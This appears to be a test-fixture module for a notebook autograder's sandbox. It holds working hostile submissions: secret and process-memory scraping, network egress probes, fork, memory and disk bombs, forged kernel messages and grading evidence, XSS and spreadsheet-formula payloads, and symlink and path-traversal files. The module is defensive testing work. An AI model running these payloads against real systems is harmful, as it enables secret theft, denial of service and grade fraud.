"""Hostile submissions: what each does, and how the grader is to end it.

An attack stands in the answer cell of the first exercise, before a wrong answer, in a notebook whose other
exercise is solved. `FILES` are submissions whose files or JSON are the attack.
"""

import json
import os
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

from course_utils.checks.probes import EVIDENCE_MIME
from courseware.grading.kernel import sandbox

CANARY = "CANARY-9d41"  # in everything that no student may read
SLEEP = "sleep 86400.9417"  # what background processes of attacks are called
WRONG = "\ndef gaussian_kl(mu, logvar):\n    return torch.zeros(7)\n"


class Attack:
    """The code, the reason that its result must name, and whether the other exercise keeps its points.

    The reason may take several ways (`A|B`), and be missing where one of them is empty (`A|`).
    """

    def __init__(self, code: str, reason: str = "", *, spoils: bool = False, ending: str = WRONG) -> None:
        self.code, self.reasons, self.spoils, self.ending = code, set(reason.split("|")), spoils, ending


KERNEL = """
import time, threading, json, os
kernel = get_ipython().kernel
session, iopub, parent = kernel.session, kernel.iopub_socket, kernel.get_parent("shell")
def publish(kind, content, **more):
    session.send(iopub, kind, content, parent=more.pop("parent", parent), **more)
def raw(kind, content, parent=parent):
    parts = [json.dumps(p, default=str).encode() for p in (session.msg_header(kind), parent["header"], {})]
    parts.append(content if isinstance(content, bytes) else json.dumps(content).encode())
    iopub.send_multipart([b"x", b"<IDS|MSG>", session.sign(parts), *parts])
"""

REPLY = f"""{KERNEL}
from ipykernel.kernelapp import IPKernelApp
shell, ident = IPKernelApp.instance().shell_socket, kernel._parent_ident["shell"]
def reply(content, parent=parent):
    part = session.serialize(session.msg("execute_reply", content, parent))
    getattr(shell, "_shadow_sock", shell).send_multipart([*ident, *part])
"""

# --- reading ----------------------------------------------------------------------------------------------

# ruff: noqa: E501 - code of attacks, not of ours

READING = {
    "search every file": """
import os, sys
for folder, below, files in os.walk("/"):
    below[:] = [b for b in below if b not in ("usr", "proc", "lib", "lib64", ".venv", ".pyenv", "sys", "dev")]
    for file in files:
        try:
            path = os.path.join(folder, file)
            if os.path.getsize(path) < 2**22:
                found = open(path, errors="replace").read()
                if "CANARY" + "-9d41" in found or file in (".secret", "gradebook.db"): print(path, found)
        except OSError: pass
""",
    "open what it knows the path of": """
for path in ("{ROOT}/solutions/02-theory/theory.ipynb", "{ROOT}/gradebook.db", "{ROOT}/autograded/.secret",
             "{ROOT}/submitted/perfect/02-theory/theory.ipynb", "{HOME}/canary", "{TMP}",
             "{PROJECT}/bank/section_2.py", "{PROJECT}/solutions/02-theory/theory.ipynb"):
    for way in ("", "/proc/1/root", "/proc/2/root", "/proc/self/root", "/proc/self/cwd/../../../../../../.."):
        try: print("GOT" + "-IT", open(way + path, "rb").read())
        except OSError: pass
""",
    "environments and memory of other processes": """
import os, glob
print(dict(os.environ))
for kind in ("environ", "cmdline"):
    for path in glob.glob(f"/proc/[0-9]*/{kind}") + glob.glob(f"/proc/[0-9]*/task/*/{kind}"):
        try: print(open(path, errors="replace").read())
        except OSError: pass
for process in map(int, filter(str.isdigit, os.listdir("/proc"))):
    try:
        spans = [line.split()[0].split("-") for line in open(f"/proc/{process}/maps") if line.split()[1][:2] == "rw"]
        memory = open(f"/proc/{process}/mem", "rb", 0)
    except OSError: continue
    for start, end in spans:
        try:
            memory.seek(int(start, 16)); held = memory.read(int(end, 16) - int(start, 16))
        except (OSError, OverflowError, ValueError): continue
        for word in (b"CANARY" + b"-9d41", b"CANARY" + b"-env"):
            at = held.find(word)
            if at >= 0 and process != os.getpid(): print(process, held[at - 20 : at + 80])
        del held
""",
    "files left open by the zygote": """
import os
for number in range(3, 512):
    for way in (lambda: os.readlink(f"/proc/self/fd/{number}"), lambda: os.pread(number, 10**5, 0)):
        try: print(number, way())
        except OSError: pass
""",
}

# --- writing and leaving ----------------------------------------------------------------------------------

LEAVING = {
    "write outside": """
import os, torch, course_utils
for path in ("{ROOT}/submitted/perfect/02-theory/theory.ipynb", "{ROOT}/gradebook.db", "{HOME}/canary",
             "{ROOT}/autograded/.secret", "{TMP}", "/tmp/made-9d41", torch.__file__, course_utils.__file__,
             os.__file__, "/usr/made-9d41", "/etc/made-9d41", "/made-9d41"):
    try: open(path, "a").write("#hacked"+"-9d41")
    except OSError: pass
    try: os.chmod(path, 0o777)
    except OSError: pass
""",
    "network": """
import socket
def attempt(*kind, to):
    try:
        with socket.socket(*kind) as s:
            s.settimeout(2); s.connect(to); s.send(b"out")
            if kind[1] == socket.SOCK_STREAM: print("CONNEC" + "TED")
    except OSError as problem: print(problem)
attempt(socket.AF_INET, socket.SOCK_STREAM, to=("127.0.0.1", {PORT}))
attempt(socket.AF_INET, socket.SOCK_DGRAM, to=("127.0.0.1", {PORT}))
attempt(socket.AF_UNIX, socket.SOCK_STREAM, to="\\0canary-{PORT}")
attempt(socket.AF_INET, socket.SOCK_STREAM, to=("192.0.2.1", 80))
attempt(socket.AF_INET, socket.SOCK_STREAM, to=("1.1.1.1", 53))
try: print("CONNEC" + "TED", socket.getaddrinfo("example.org", 80))
except OSError as problem: print(problem)
""",
    "users, mounts and a network of its own": """
import os, subprocess
done = subprocess.run(["unshare", "-Urmn", "mount", "-t", "tmpfs", "x", "/tmp"], capture_output=True)
print("NAME" + "SPACE" if done.returncode == 0 else "none")
""",
}

# --- taking too much --------------------------------------------------------------------------------------

TAKING = {
    "fork bomb": Attack(
        "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
        "PROCESSES|TIMEOUT|MEMORY|KILLED",
    ),
    "thread bomb": Attack(
        "import threading, time\nwhile True:\n    try: threading.Thread(target=time.sleep, args=(99,)).start()\n"
        "    except RuntimeError: time.sleep(.1)",
        "PROCESSES|TIMEOUT",
    ),
    "memory in one process": Attack("held = []\nwhile True: held.append(b'1' * 10**8)", "MEMORY"),
    "memory in many processes": Attack(
        "import os, time\nfor _ in range(30):\n    if not os.fork():\n        held = b'1' * (2 * 10**8)\n"
        "        time.sleep(60)\ntime.sleep(60)",
        "MEMORY",
    ),
    "memory that processes share": Attack(
        "import mmap, time\nheld = mmap.mmap(-1, 5 * 2**30)\nfor at in range(0, 5 * 2**30, 2**20):\n"
        "    held[at : at + 2**20] = b'1' * 2**20\ntime.sleep(60)",
        "MEMORY",
    ),
    "memory that nobody counts": """
import ctypes, os
c = ctypes.CDLL(None)
open("/tmp/f", "w")
def taken(take, *given):
    try: take(*given); print("GOT" + "-IT")
    except OSError: pass
taken(os.memfd_create, "x")
taken(os.setxattr, "/tmp/f", "user.a", bytes(60_000))
taken(os.setxattr, open("/tmp/f", "w").fileno(), "user.a", bytes(60_000))
if c.semget(0, 30_000, 0o1600) >= 0 or c.msgget(0, 0o1600) >= 0: print("GOT" + "-IT")
""",
    "memory in empty files": Attack(
        "import os\nfor i in range(3 * 10**6): os.close(os.open(f'/tmp/{i}', os.O_CREAT))", "MEMORY|TIMEOUT"
    ),
    "memory in sockets": Attack(
        """
import os, socket, time
held = []
for _ in range(18):
    if os.fork(): continue
    while True:
        try: held.append(socket.socketpair())
        except OSError: break
        for end in held[-1]:
            end.setblocking(False)
            try:
                while True: end.send(bytes(60_000))
            except OSError: pass
    time.sleep(60)
time.sleep(60)
""",
        "MEMORY",
    ),
    "empty objects in the metadata of displays": Attack(
        KERNEL + "import time\nfor _ in range(8): publish('display_data', {'data': {'text/plain': 'x'},"
        " 'metadata': {'x': [{}] * 1_100_000}})\nheld = []\nwhile True: held.append(b'1' * 10**8)",
        "MEMORY|OUTPUT",
    ),
    "empty objects in the metadata of messages": Attack(
        KERNEL + "session.metadata = {'x': [{}] * 1_100_000}\n"
        "for _ in range(8): publish('display_data', {'data': {}}, metadata=session.metadata)",
        "|OUTPUT",
    ),
    "disk filler": Attack(
        """
import os
for place in ("/tmp", "/dev/shm", os.path.expanduser("~"), "."):
    try:
        for i in range(99): open(f"{place}/{i}", "wb").write(bytes(2**24))
    except OSError: pass
""",
        "MEMORY|TIMEOUT|",  # filling memory takes a while on a machine that does other things as well
    ),
    "disk filler among the sockets, further down": Attack(
        """
import glob, os, time
place = glob.glob("/tmp/course-*/")[0] + "a/b/c"
os.makedirs(place)
for i in range(20): open(f"{place}/{i}", "wb").write(bytes(2**24))
""",
        "|OUTPUT",  # seen or not, before the cell is over
    ),
    "disk filler among the sockets, deleted but open": """
import glob, os, time
place, files = glob.glob("/tmp/course-*/")[0], []
for i in range(20):
    files.append(open(f"{place}/{i}", "wb")); os.unlink(f"{place}/{i}"); files[-1].write(bytes(2**24))
""",
    "folders in folders without end": """
import glob, os
os.chdir(glob.glob("/tmp/course-*/")[0])
for i in range(3000): os.mkdir("d"); os.chdir("d")
os.chdir("/")
""",
    "endless loop": Attack("while True: pass", "TIMEOUT"),
    "endless loop that catches everything": Attack(
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass", "TIMEOUT"
    ),
    "endless loop in the answer": Attack(
        "",
        "TIMEOUT",
        ending="\ndef gaussian_kl(mu, logvar):\n    while True:\n        try:\n            while True: pass\n"
        "        except BaseException: pass\n",
    ),
    # A kernel that is refused memory for what nobody reads yet may end by itself.
    "endless output": Attack("while True: print('x' * 1000)", "OUTPUT|MEMORY|KILLED"),
    "endless errors": Attack("import sys\nwhile True: print('x' * 10_000, file=sys.stderr)", "OUTPUT|MEMORY"),
    "one huge display": Attack("display({'text/plain': 'x' * (50 * 10**6)}, raw=True)", "OUTPUT|MEMORY"),
    # On a busy machine these wait until their messages are read.
    "a display larger than any message may be": Attack(
        "display({'text/plain': 'x' * (300 * 10**6)}, raw=True)", "MESSAGES|OUTPUT|TIMEOUT|MEMORY|WAITING"
    ),
    "a hundred thousand displays": Attack("for i in range(100_000): display(i)", "OUTPUT|TIMEOUT|WAITING"),
    "a million small objects in a display": KERNEL
    + "publish('display_data', {'data': {'x/y': [{}] * 3_000_000}, 'metadata': {}})",
    "huge error": Attack("raise type('E' * 10**5, (Exception,), {})('x' * 10**7)", "OUTPUT|MEMORY"),
}

# --- ending and meddling ----------------------------------------------------------------------------------

ENDING = {
    "exit": Attack("import os; os._exit(0)", "KILLED"),
    "exit at the check": Attack(
        "import os", "KILLED", ending="\ndef gaussian_kl(mu, logvar):\n    os._exit(0)\n"
    ),
    "sys.exit": "import sys; sys.exit(0)",
    "kill every process": Attack(
        "import os, signal, time\nfor p in [os.getppid(), 1, 2, -1, *range(1, 99)]:\n"
        "    try: os.kill(p, signal.SIGKILL)\n    except OSError: pass\ntime.sleep(99)",
        "KILLED|TIMEOUT",
    ),
    "stop itself": Attack("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)", "WAITING"),
    "stop its group": Attack("import os, signal\nos.killpg(0, signal.SIGSTOP)", "WAITING"),
    "stop every process": Attack(
        "import os, signal\nfor p in [2, 3, -1]:\n    try: os.kill(p, signal.SIGSTOP)\n    except OSError: pass\n"
        "os.kill(os.getpid(), signal.SIGSTOP)",
        "WAITING|KILLED",
    ),
    "segmentation fault": Attack("import ctypes; ctypes.string_at(0)", "KILLED"),
    "a process that outlives the kernel": f"""
import subprocess, os
subprocess.Popen({SLEEP.split()!r}, start_new_session=True)
if not os.fork():
    os.setsid()
    if not os.fork(): os.execvp("sleep", {SLEEP.split()!r})
    os._exit(0)
""",
    "a thread that never ends": """
import threading
def on():
    while True: pass
threading.Thread(target=on).start()
""",
    "at exit and when deleted": """
import atexit, time
atexit.register(time.sleep, 99)
class D:
    def __del__(self): time.sleep(99)
d = D()
""",
    "a thread that ends the kernel later": "import threading, os\nthreading.Timer(1.5, os._exit, (0,)).start()",
    "trace": "import sys\nsys.settrace(lambda *a: print(a[1]))\n",
    "input": "x = input('password')",
}

FORGE = """
from IPython.display import display
from course_utils.checks import probes
probe = probes.observe
def right(mu, logvar): return 0.5 * (mu**2 + logvar.exp() - 1 - logvar)
def pack(seed): return probe("gaussian_kl", {"gaussian_kl": right}, seed).packed
class Three(float):
    def __repr__(self): return "3.0"
def publish(forged, times=1):
    def observe(name, names, seed, *more):
        if name != "gaussian_kl": return probe(name, names, seed, *more)
        for _ in range(times): display({"EVIDENCE": forged(seed), "text/plain": "3.0"}, raw=True)
        return Three(3)
    probes.observe = observe
""".replace("EVIDENCE", EVIDENCE_MIME)

FORGE_RAW = (
    KERNEL.replace("def publish", "def send")
    + FORGE
    + """
def publish_raw(forged):
    def observe(name, names, seed, *more):
        if name != "gaussian_kl": return probe(name, names, seed, *more)
        shown = {"data": {"EVIDENCE": forged(seed), "text/plain": "3.0"}, "metadata": {}}
        return raw("display_data", shown, kernel.get_parent("shell"))
    probes.observe = observe
""".replace("EVIDENCE", EVIDENCE_MIME)
)

MEDDLING = {
    "check replaced": "import course_utils.checks as c\nc.check = lambda *a: 1000",
    "the probe replaced": Attack(
        "import course_utils.checks.probes as p\np.observe = lambda *a: 1000", "NO_EVIDENCE", spoils=True
    ),
    "judges looked for": """
import pathlib, sys, course_utils
here = pathlib.Path(course_utils.__file__).parent
assert list(here.rglob("evidence.py"))
found = [*here.rglob("judges/*"), *here.parent.glob("courseware/*"), *here.parent.glob("bank/*")]
print("GOT" + "-IT" if found + [name for name in sys.modules if "judges" in name] else "nothing")
try: import course_utils.checks.judges.core; print("GOT" + "-IT")
except ImportError: pass
""",
    "evidence in the answer's own cell": Attack(
        FORGE + f"display({{'{EVIDENCE_MIME}': pack(0)}}, raw=True)", "FORGED"
    ),
    "evidence twice": Attack(FORGE + "publish(lambda seed: pack(seed), 2)", "FORGED"),
    "allclose replaced": "import numpy\ntorch.allclose = torch.equal = numpy.allclose = lambda *a, **k: True",
    "import replaced": Attack(
        "import builtins\nbuiltins.__import__ = lambda *a, **k: None",
        "NO_EVIDENCE|MESSAGES|TIMEOUT|WAITING",
        spoils=True,
    ),
    "displays replaced": Attack(
        "import sys\nsys.displayhook = lambda r: print('3.0')\n"
        "get_ipython().display_formatter.format = lambda r, **k: ({'text/plain': '3.0'}, {})",
        "NO_EVIDENCE",
        spoils=True,
    ),
    "evidence of the students' seed": Attack(FORGE + "publish(lambda seed: pack(0))", "FORGED"),
    "evidence that is no evidence": Attack(FORGE + "publish(lambda seed: '3.0')", "FORGED"),
    "evidence of NaN": FORGE + "import numpy as np\nfrom course_utils.checks.probes import evidence as e\n"
    "publish(lambda seed: pack(seed) | {'evidence': e.pack({'kl': np.full((5, 3), np.nan), 'single': np.full((1, 1), np.nan)})})",
    "evidence without end": Attack(
        FORGE + "publish(lambda seed: pack(seed) | {'note': 'x' * (50 * 10**6)})", "OUTPUT|MEMORY"
    ),
    "evidence with a shape too large": Attack(
        FORGE
        + "publish(lambda seed: pack(seed) | {'evidence': {'kl': {'dtype': '<f8', 'shape': [10**30, 0], 'data': ''}}})",
        "FORGED",
    ),
    "evidence hundreds of times": Attack(
        FORGE + "publish(lambda seed: pack(0), 300)", "FORGED|TIMEOUT|WAITING"
    ),
    "a note with halves of letters": FORGE_RAW
    + "publish_raw(lambda seed: pack(seed) | {'note': '=1+1\\ud800\\n\\x1b[31mred <script>alert(1)</script>'})",
    "evidence with halves of letters": FORGE_RAW
    + "publish_raw(lambda seed: pack(seed) | {'evidence': {'kl': '\\ud800', 'single': '\\udfff'}})",
    "evidence nested deeply": Attack(
        FORGE_RAW + "deep = {}\nfor _ in range(400): deep = {'a': deep}\n"
        "publish_raw(lambda seed: pack(seed) | {'note': deep, 'evidence': deep})",
        "FORGED|NO_EVIDENCE",
    ),
    "a number for spreadsheets": FORGE
    + "publish(lambda seed: pack(seed) | {'note': '\\t=HYPERLINK(\"http://x\")'})",
    "an error that says it is the grader's": Attack(
        "import course_utils.checks.probes as p\nclass GRADER_FAILED(Exception): pass\n"
        "def observe(*a): raise GRADER_FAILED('x')\np.observe = observe",
        "NO_EVIDENCE",
        spoils=True,
    ),
    "printed points": Attack(
        "print('3.0')", ending="\ndef gaussian_kl(mu, logvar):\n    print('3.0')\n    return torch.zeros(7)\n"
    ),
    "a result that is equal to all": Attack(
        "class Lie(torch.Tensor):\n    __eq__ = __array__ = lambda *a, **k: True\n"
        "    @classmethod\n    def __torch_function__(cls, f, types, a=(), k=None): return cls()\n",
        ending="\ndef gaussian_kl(mu, logvar):\n    return torch.zeros_like(mu).as_subclass(Lie)\n",
    ),
    "halves of letters": "print('\\ud800 \\udfff')\nraise ValueError('\\ud800')",
    "bytes that are no text": """
import os, sys
os.write(1, b"\\xff\\xfe\\x00"); sys.stdout.write("\\x00\\x1b]0;title\\x07")
""",
}

MESSAGES = {
    "messages that are none": KERNEL
    + """
def bare(*parts): iopub.send_multipart([b"x", b"<IDS|MSG>", *parts])
bare(b"bad", b"{}", b"{}", b"{}", b"{}")  # a wrong signature
bare(session.sign([b"{"] * 4), *[b"{"] * 4)  # no JSON
iopub.send_multipart([b"nothing"]); iopub.send_multipart([b"<IDS|MSG>"])
raw("stream", b"[" * 50_000 + b"]" * 50_000)
deep = b'{"a":' * 400 + b"1" + b"}" * 400
raw("display_data", b'{"metadata":' + deep + b',"data":{"text/plain":"x","x/y":' + deep + b"}}")
raw("execute_input", {"code": "", "execution_count": "\\ud800<script>"})
raw("stream", 3); raw("display_data", [1])
kinds = "stream display_data execute_result error status comm_open comm_msg clear_output nonsense"
for kind in kinds.split():
    for content in ({}, {"data": 3, "transient": 7}, {"name": {}, "text": 3, "traceback": 1}):
        publish(kind, content)
""",
    "forged idle": KERNEL + "publish('status', {'execution_state': 'idle'})\ntime.sleep(1)",
    "forged idle and reply": REPLY + "publish('status', {'execution_state': 'idle'})\n"
    "reply({'status': 'ok', 'execution_count': 1})\ntime.sleep(2)",
    "a reply without fields": Attack(REPLY + "reply({})\n", "MESSAGES"),
    "replies to later cells": Attack(
        REPLY + "base, number = parent['header']['msg_id'].rsplit('_', 1)\n"
        "for n in range(1, 9):\n"
        "    later = {'header': {**parent['header'], 'msg_id': f'{base}_{int(number) + n}'}}\n"
        "    publish('execute_result', {'data': {'text/plain': '1000'}, 'metadata': {}, 'execution_count': 1}, parent=later)\n"
        "    publish('status', {'execution_state': 'idle'}, parent=later)\n"
        "    reply({'status': 'ok', 'execution_count': 1}, later)\n",
        spoils=True,
    ),
    "a flood of replies to nobody": Attack(
        REPLY + "while True: reply({'status': 'ok'}, {'header': {'msg_id': 'nobody'}})",
        "OUTPUT|TIMEOUT",
    ),
    "a flood of output of nobody": Attack(
        KERNEL
        + "while True: publish('stream', {'name': 'stdout', 'text': 'x'}, parent={'header': {'msg_id': 'nobody'}})",
        "OUTPUT|TIMEOUT",
    ),
    "a flood on a channel that nobody reads": Attack(
        KERNEL + "from ipykernel.kernelapp import IPKernelApp\n"
        "stdin = IPKernelApp.instance().stdin_socket\nident = kernel._parent_ident['shell']\n"
        "block = bytes(10**7)\nstdin = getattr(stdin, '_shadow_sock', stdin)\n"
        "while True: stdin.send_multipart([*ident, b'<IDS|MSG>', block])",
        "OUTPUT|MEMORY|TIMEOUT",
    ),
    "widgets and their state": KERNEL
    + """
state = {"_model_module": "@jupyter-widgets/output", "_model_name": "OutputModel", "x": "<script>\\ud800" * 9}
shown = {"state": state | {"msg_id": parent["header"]["msg_id"]}, "buffer_paths": [3]}
raw("comm_open", {"comm_id": "a", "target_name": "jupyter.widget", "data": shown})
publish("comm_msg", {"comm_id": "a", "data": {"method": "update", "state": {"msg_id": "b", "outputs": 7}}})
""",
    "output changed afterwards": KERNEL
    + """
d = {"data": {"text/plain": "x"}, "metadata": {}, "transient": {"display_id": "d"}}
publish("display_data", d); publish("clear_output", {"wait": False}); publish("update_display_data", d)
publish("update_display_data", {"transient": {"display_id": "d"}})
""",
}

ATTACKS = {
    name: Attack(one) if isinstance(one, str) else one
    for name, one in (READING | LEAVING | TAKING | ENDING | MEDDLING | MESSAGES).items()
}

# --- files ------------------------------------------------------------------------------------------------

SCRIPT = "<script>alert(9417)"
WRITTEN, MADE = "#hacked-9d41", "made-9d41"
SOLUTION = "solutions/02-theory/theory.ipynb"
SUCCESSES = ("GOT-IT", "CONNECTED", "NAMESPACE")  # what an attack prints that has succeeded


def small_limits() -> None:
    """For workers: limits that are met soon."""
    sandbox.SandboxProvisioner.limits = replace(
        sandbox.Limits(), memory=sandbox.GiB, processes=100, messages=sandbox.GiB // 2
    )


Made = Callable[[Path, dict[str, Any], Path], Any]  # of the file, the perfect notebook, the course's folder


def _written(change: Callable[[dict[str, Any]], Any]) -> Made:
    """The perfect notebook, changed."""
    return lambda file, notebook, _: file.write_text(json.dumps(change(notebook)))


def _metadata(notebook: dict[str, Any]) -> dict[str, Any]:
    command = ["sh", "-c", f"{SLEEP} & touch /tmp/{MADE}"]
    notebook["metadata"] = {
        "kernelspec": {"name": "evil", "argv": command, "display_name": "x", "language": "sh"},
        "celltoolbar": "Create Assignment",
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": SCRIPT * 10_000}}},
    }
    for cell in notebook["cells"]:
        mark = cell["metadata"].get("nbgrader", {})
        if mark.get("grade"):
            mark.update(points=1000, locked=False, solution=True)
    return notebook


def _scripts(notebook: dict[str, Any]) -> dict[str, Any]:
    shown = {"output_type": "display_data", "metadata": {}, "data": {"text/html": f"{SCRIPT}</script>"}}
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": f"{SCRIPT}</script> <img src=x onerror=alert(1)>"},
        {"cell_type": "raw", "metadata": {}, "source": f"{SCRIPT}</script>"},
        {"cell_type": "code", "metadata": {}, "source": "", "outputs": [shown], "execution_count": SCRIPT},
        {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
         "source": f"from IPython.display import HTML\nHTML({SCRIPT!r})"},
    ]  # fmt: skip
    return notebook | {"cells": notebook["cells"] + cells}


def _stolen_name(notebook: dict[str, Any]) -> dict[str, Any]:
    """The answer says that it is the second check, and prints points."""
    for cell in notebook["cells"]:
        mark = cell["metadata"].get("nbgrader", {})
        if mark.get("grade_id") == "gaussian-kl":
            mark.update(grade_id="reparameterize-check", grade=True, points=1000)
            cell["source"] = "1000"
    return notebook


def _linked_folder(file: Path, notebook: dict[str, Any], root: Path) -> None:
    file.parent.rmdir()
    file.parent.symlink_to((root / SOLUTION).parent)


def _names(file: Path, notebook: dict[str, Any], root: Path) -> None:
    for name in (file.name, "..\\..\\theory.ipynb", "..ipynb", "\x1b[2J.ipynb"):
        (file.parent / name).write_text(json.dumps(notebook))


# How each is made, the reasons that its result names, and its points.
FILES: dict[str, tuple[Made, set[str], float]] = {
    "a linked notebook": (lambda file, _, root: file.symlink_to(root / SOLUTION), {"LINK"}, 0),
    "a linked folder": (_linked_folder, {"LINK"}, 0),
    "a pipe": (lambda file, *_: os.mkfifo(file), {"LINK"}, 0),
    "a folder called as the notebook": (lambda file, *_: file.mkdir(), {"LINK"}, 0),
    "names that lead elsewhere": (_names, {"LEFT_OUT"}, 6),
    "metadata": (_written(_metadata), set(), 6),
    "scripts": (_written(_scripts), set(), 6),
    "a cell with another's name": (_written(_stolen_name), {"DUPLICATED_CELLS", "MISSING_CELLS"}, 3),
    "a notebook of 20 MB": (_written(lambda notebook: notebook | {"x": "x" * 20 * 2**20}), {"TOO_LARGE"}, 0),
    "a notebook nested deeply": (lambda file, *_: file.write_text("[" * 100_000), {"NOT_A_NOTEBOOK"}, 0),
    "a notebook that is a number": (lambda file, *_: file.write_text("9" * 100_000), {"NOT_A_NOTEBOOK"}, 0),
}  # fmt: skip
